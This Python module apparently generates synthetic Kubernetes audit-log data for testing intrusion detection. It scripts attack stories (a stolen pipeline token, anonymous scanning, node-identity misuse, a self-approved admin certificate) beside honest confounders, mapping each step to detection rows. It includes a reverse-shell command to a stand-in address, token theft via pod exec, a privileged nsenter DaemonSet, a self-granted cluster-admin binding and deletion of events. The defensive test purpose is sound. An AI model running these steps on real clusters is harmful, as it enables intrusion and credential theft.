"""What is planted in the ordinary life: attacks step by step, and honest work that looks like one.

Each plant says which rows of the detection catalog its steps belong to and which audit ids prove them, so that a test,
or a reader, can compare what was done with what was found. In long logs the stories come back every day, from other
addresses.
"""

from collections.abc import Iterable, Iterator
from typing import Final, NamedTuple

from kwho.sample import bodies
from kwho.sample.cast import Cast, Extra, anonymous, uid, unknown
from kwho.sample.chance import seeded
from kwho.sample.cluster import KUBECTL
from kwho.sample.request import Ask, Identity, template
from kwho.sample.rhythm import MINUTE, SECOND, Item, Scribe
from kwho.sample.work import HELM
from kwho.schema.event import User

DAY: Final = 24 * 60 * MINUTE

_CAN_I: Final = Ask("create authorization.k8s.io/selfsubjectrulesreviews", 201)
_MAY_I: Final = Ask("create authorization.k8s.io/selfsubjectaccessreviews", 201)
_RBAC: Final = "rbac.authorization.k8s.io"
_CSR: Final = "certificates.k8s.io/certificatesigningrequests"
_OPS_LEGACY: Final = (
    'RBAC: allowed by ClusterRoleBinding "ops-legacy" of ClusterRole "ops-legacy" to ServiceAccount "api/payments"'
)
_IMAGE: Final = "docker.example.com/tools/tuner:latest"
_BACK: Final = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
_SHELL: Final = {"containers": [{"name": "rotate", "image": _IMAGE, "command": _BACK}]}
_SECRETS: Final = {
    "payments": (
        "gateway-credentials",
        "ledger-db",
        "settlement-key",
        "webhook-key",
        "registry-credentials",
        "api-tls",
    ),
    "identity": ("signing-key", "session-key", "oidc-client", "mail-account", "directory-bind"),
    "data": ("orders-superuser", "orders-app", "reports-reader", "warehouse-key", "backup-bucket"),
}
_UNRELATED: Final = "no relationship found between node 'worker-3' and this object ({})"


class Step(NamedTuple):
    """One step of a story: what was done, the catalog rows it belongs to, and the requests that prove it.

    A row may have no rule yet; requests that only follow from others (the pods of a workload) belong to none.
    """

    text: str
    detections: tuple[str, ...]
    audit_ids: tuple[str, ...]


class Plant(NamedTuple):
    """One story in the log; `honest` ones are the confounders that a reader should be able to tell apart."""

    name: str
    story: str
    honest: bool
    steps: tuple[Step, ...]

    @property
    def audit_ids(self) -> tuple[str, ...]:
        """Every request of the story, in the order of the steps."""
        return tuple(audit_id for step in self.steps for audit_id in step.audit_ids)


class Teller:
    """Tells one story: writes its requests one after the other and remembers which step each belongs to."""

    def __init__(self, scribe: Scribe, begin: int) -> None:
        self.scribe = scribe
        self.now = begin
        self.items: list[Item] = []
        self.steps: list[Step] = []

    def step(self, text: str, detections: str, who: Identity, asks: Iterable[Ask], pace: float = 3.0) -> None:
        """The requests of one step, about `pace` seconds apart; `detections` are catalog rows with blanks between."""
        first = len(self.items)
        for what in asks:
            self.now += int(self.scribe.rng.uniform(0.4, 1.6) * pace * SECOND)
            self._write(who, what)
        ids = dict.fromkeys(_audit_id(item) for item in self.items[first:])
        self.steps.append(Step(text, tuple(detections.split()), tuple(ids)))

    def rest(self, minutes: float) -> None:
        """Nothing happens for a while."""
        self.now += int(minutes * MINUTE)

    def until(self, period: int) -> None:
        """Nothing happens until the next whole `period` of microseconds."""
        self.now += -self.now % period

    def _write(self, who: Identity, what: Ask) -> None:
        if what.code == 101:
            end = self.now + self.scribe.rng.randrange(20 * SECOND, 200 * SECOND)
            self.items += self.scribe.stream(who, what, self.now, end)
        elif what.code == 401:
            refused = template(who, what, "ResponseStarted")
            self.items.append(self.scribe.write(self.now, refused))
        else:
            self.items.append(self.scribe.write(self.now, template(who, what)))


def tell(seed: int, cast: Cast, start: int) -> Iterator[tuple[Plant, list[Item]]]:
    """Every story of the day that begins at `start`, in order of their first request."""
    for name, (minute, story, honest, play) in _STORIES.items():
        rng = seeded(seed, name, start)
        teller = Teller(Scribe(rng), start + int((minute + rng.random()) * MINUTE))
        play(teller, cast)
        yield Plant(name, story, honest, tuple(teller.steps)), teller.items


def planted(seed: int, cast: Cast, start: int) -> Iterator[Item]:
    """The requests of all stories, day after day, for ever, in order of their beginning."""
    while True:
        items = [item for _, told in tell(seed, cast, start) for item in told]
        yield from sorted(items, key=lambda item: item.begin)
        start += DAY


def _audit_id(item: Item) -> str:
    return item.line.partition(b'"auditID":"')[2][:36].decode()


def _outside(teller: Teller, network: str) -> str:
    return f"{network}.{teller.scribe.rng.randrange(5, 250)}"


def _stolen_token(teller: Teller, cast: Cast) -> None:
    peer = _outside(teller, "203.0.113")
    ci = cast.account("ci", "deployer", HELM)._replace(peer=peer, agent=KUBECTL)
    teller.step(
        "The pipeline's token appears at a new public address and asks what it may do",
        "A08 B01 B02",
        ci,
        [_CAN_I, *[_MAY_I] * 6],
    )
    kinds = [f"core/{kind}" for kind in ("namespaces", "nodes", "pods", "serviceaccounts", "configmaps")]
    kinds += [f"{_RBAC}/{kind}" for kind in ("clusterroles", "clusterrolebindings")]
    teller.step("It looks around in the whole cluster", "A08 B05", ci, [Ask(f"list {kind}") for kind in kinds], 1.5)
    pod = "payments/payments-api-5f7d8c9b66-q4z8n"
    reading = "?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true"
    shell = "?command=sh&container=payments-api&stdin=true&stdout=true&tty=true"
    entries = [Ask(f"get core/pods/exec {pod}", 101, query) for query in (shell, reading)]
    teller.step("It enters a pod of the payment service and reads the token there", "A08 C01 C06", ci, entries, 40)
    teller.rest(2.5)
    api = cast.account("payments", "api", KUBECTL)._replace(peer=peer, agent=KUBECTL, reason=_OPS_LEGACY)
    _spread(teller, api, cast)


def _spread(teller: Teller, api: Identity, cast: Cast) -> None:
    lists = [Ask(f"list core/secrets {namespace}/") for namespace in _SECRETS]
    teller.step(
        "The account of that pod now speaks from the same address and lists secrets", "A08 F03 F08", api, lists, 30
    )
    reads = [Ask(f"get core/secrets {namespace}/{name}") for namespace, names in _SECRETS.items() for name in names]
    teller.step("It reads sixteen of them, one after the other", "A08 F01 F05 F08", api, reads, 4)
    name = f"tmp-dbg-{teller.scribe.hex(4)}"
    subject = {"kind": "ServiceAccount", "name": "api", "namespace": "payments"}
    body = bodies.encode(bodies.binding(name, "cluster-admin", subject))
    grant = Ask(f"create {_RBAC}/clusterrolebindings /{name}", 201, sent=body, answered=body)
    teller.step("It makes itself cluster-admin", "A08 E01 E03 E07 E16", api, [grant])
    _settle(teller, api, cast)
    teller.step("It takes back the binding", "E03 N12", api, [Ask(f"delete {_RBAC}/clusterrolebindings /{name}")], 60)
    traces = [Ask(f"delete core/events {place}") for place in ("payments/payments-api.1841", "kube-system/tuner.1842")]
    teller.step("It removes traces", "I01", api, traces)
    teller.until(30 * MINUTE)
    shell = bodies.pod("kube-system", f"log-rotate-{teller.now // MINUTE}", "Job", _SHELL)
    run = Ask("create core/pods kube-system/", 201, sent=shell, answered=shell)
    teller.step("The cron job opens its shell", "", cast.controller("job-controller"), [run], 0.5)


def _settle(teller: Teller, api: Identity, cast: Cast) -> None:
    spec = bodies.host_pod_spec("node-tuner", _IMAGE, "nsenter", "-t", "1", "-m", "--", "/host/opt/tuner")
    body = bodies.encode(bodies.workload("DaemonSet", "kube-system", "node-tuner", spec))
    daemons = Ask("create apps/daemonsets kube-system/node-tuner", 201, sent=body, answered=body)
    teller.step(
        "It runs a privileged container with the disk of every node", "D01 D05 D06 D07 G02 N11", api, [daemons], 45
    )
    names = [f"node-tuner-{teller.scribe.hex(5)}" for _ in range(4)]
    wanted, *made = (bodies.pod("kube-system", "node-tuner", "DaemonSet", spec, name) for name in ("", *names))
    pods = [Ask("create core/pods kube-system/", 201, sent=wanted, answered=answered) for answered in made]
    controller = cast.controller("daemon-set-controller")
    teller.step("The controller starts it on four nodes", "", controller, pods, 0.1)
    cron = bodies.encode(bodies.cron_job("kube-system", "log-rotate", "*/30 * * * *", _SHELL))
    stay = Ask("create batch/cronjobs kube-system/log-rotate", 201, sent=cron, answered=cron)
    teller.step("It comes back every half hour: a cron job opens a shell", "C14 G01", api, [stay], 60)


def _anonymous_scan(teller: Teller, _: Cast) -> None:
    peer = _outside(teller, "198.51.100")
    nobody = anonymous(peer, "python-requests/2.32.4")
    kinds = ("secrets", "pods", "configmaps", "nodes", "namespaces", "services", "serviceaccounts", "endpoints")
    tries = [Ask(f"list core/{kind}", 403, "") for kind in kinds]
    tries += [Ask(f"get {path}", 403) for path in ("/metrics", "/logs", "/debug/pprof/", "/apis", "/api/v1")]
    tries += [Ask(f"list core/secrets {ns}/", 403, "") for ns in ("default", "kube-system", "payments", "ci")]
    teller.step("Somebody without credentials tries one path after the other", "A03 A05 A06", nobody, tries, 0.5)
    stranger = unknown(peer, "python-requests/2.32.4")
    guesses = [Ask("list core/pods", 401, "")] * 6
    teller.step("Made-up tokens are refused", "A05", stranger, guesses, 0.8)
    reason = 'RBAC: allowed by RoleBinding "public-read/legacy" of Role "public-read" to Group "system:unauthenticated"'
    hits = [Ask(f"{verb} core/configmaps legacy/{name}", 200, "") for verb, name in (("list", ""), ("get", "settings"))]
    found = nobody._replace(reason=reason)
    teller.step("One namespace is open to everybody and is read", "A01", found, hits, 2)


def _node_identity(teller: Teller, cast: Cast) -> None:
    kubelet = cast.node(3)._replace(agent=KUBECTL)
    note = "node 'worker-3' cannot read '{}', only its own"
    denied = "authorization.k8s.io/reason"
    names = ("ledger-db", "gateway-credentials", "signing-key")
    secrets = [f"{namespace}/{name}" for namespace in ("payments", "identity", "data") for name in names]
    refusals = [Ask(f"get core/secrets {name}", 403, note=((denied, _UNRELATED.format(name)),)) for name in secrets]
    broad = ((denied, note.format("secrets")),)
    refusals += [Ask(f"list core/secrets {namespace}/", 403, note=broad) for namespace in ("ci", "argocd", "velero")]
    teller.step(
        "The identity of a node, with kubectl, is refused secrets of pods that run elsewhere",
        "A07 F02",
        kubelet,
        refusals,
        5,
    )
    own = [Ask(f"get core/secrets {name}") for name in ("checkout/cart-session-key", "frontend/storefront-tls")]
    teller.step("It reads secrets of pods that run on it", "F01 F08", kubelet, own, 6)
    issued = (("authentication.kubernetes.io/issued-credential-id", f"JTI={uid(teller.scribe.rng)}"),)
    token = Ask("create core/serviceaccounts/token checkout/cart", 201, note=issued)
    teller.step("It asks for the token of a service account", "", kubelet, [token], 10)


def _own_certificate(teller: Teller, cast: Cast) -> None:
    bruno = cast.person("bruno@example.com")._replace(peer=_outside(teller, "192.0.2"), agent=KUBECTL)
    name = f"ops-helper-{teller.scribe.hex(4)}"
    bare, approved = (bodies.encode(bodies.certificate_request(name, by)) for by in (None, bruno.user.username))
    request = Ask(f"create {_CSR} /{name}", 201, sent=bare, answered=bare)
    teller.step("An administrator asks for a certificate of system:masters", "F14 F19 F20", bruno, [request])
    approval = Ask(f"update {_CSR}/approval /{name}", sent=approved, answered=approved)
    teller.step("He approves his own request", "F15 F18", bruno, [approval], 20)
    teller.step(
        "He takes the certificate and deletes the request",
        "F17",
        bruno,
        [Ask(f"get {_CSR} /{name}"), Ask(f"delete {_CSR} /{name}")],
        15,
    )
    groups = ("system:masters", "system:authenticated")
    credential = f"X509SHA256={teller.scribe.rng.getrandbits(256):064x}"
    extra: Extra = {"authentication.kubernetes.io/credential-id": (credential,)}
    helper = bruno._replace(user=User(username="ops-helper", groups=groups, extra=extra), reason="")
    teller.rest(3)
    teller.step(
        "A name that nobody knew lists every secret of the cluster",
        "F03 F04",
        helper,
        [Ask("list core/secrets"), Ask("list core/namespaces")],
        8,
    )


def _break_glass(teller: Teller, cast: Cast) -> None:
    alice = cast.person("alice@example.com")
    name = "break-glass-chg-4711"
    subject = {"kind": "User", "name": alice.user.username, "apiGroup": _RBAC}
    body = bodies.encode(
        bodies.binding(name, "cluster-admin", subject, ticket="CHG-4711", expires="2026-03-17T08:30:00Z")
    )
    grant = Ask(f"create {_RBAC}/clusterrolebindings /{name}", 201, sent=body, answered=body)
    teller.step("An administrator takes full rights under a ticket, from her usual place", "E01 E03", alice, [grant])
    repair = [Ask("list core/nodes"), Ask("get core/nodes /worker-2"), Ask("patch core/nodes /worker-2")]
    teller.step("She repairs a node", "", alice, repair, 60)
    teller.rest(12)
    end = [Ask(f"delete {_RBAC}/clusterrolebindings /{name}")]
    teller.step("She gives the rights back", "E03 N12", alice, end)


def _backup(teller: Teller, cast: Cast) -> None:
    velero = cast.account("velero", "velero", "velero-server/v1.16.2 (linux/amd64) 4b42be1")
    kinds = ("core/secrets", "core/configmaps", "core/persistentvolumes", "apps/deployments", "core/namespaces")
    backup = [Ask("get velero.io/backups velero/nightly"), *(Ask(f"list {kind}") for kind in kinds)]
    teller.step("The backup lists every object, secrets too", "F03 F04 F08", velero, backup, 2)
    teller.step("It notes its success", "", velero, [Ask("patch velero.io/backups velero/nightly")])


_STORIES: Final = {
    "backup": (6, "The nightly backup reads everything", True, _backup),
    "stolen-token": (
        12,
        "The pipeline's token is used from outside, up to the nodes",
        False,
        _stolen_token,
    ),
    "anonymous-scan": (47, "A scan without credentials finds one open door", False, _anonymous_scan),
    "node-identity": (71, "The identity of a node is used to reach secrets", False, _node_identity),
    "break-glass": (88, "An announced emergency, with rights given back", True, _break_glass),
    "own-certificate": (112, "An administrator makes himself a second identity", False, _own_certificate),
}
"""By name: minute of the day's log, story, whether it is honest, and who tells it."""
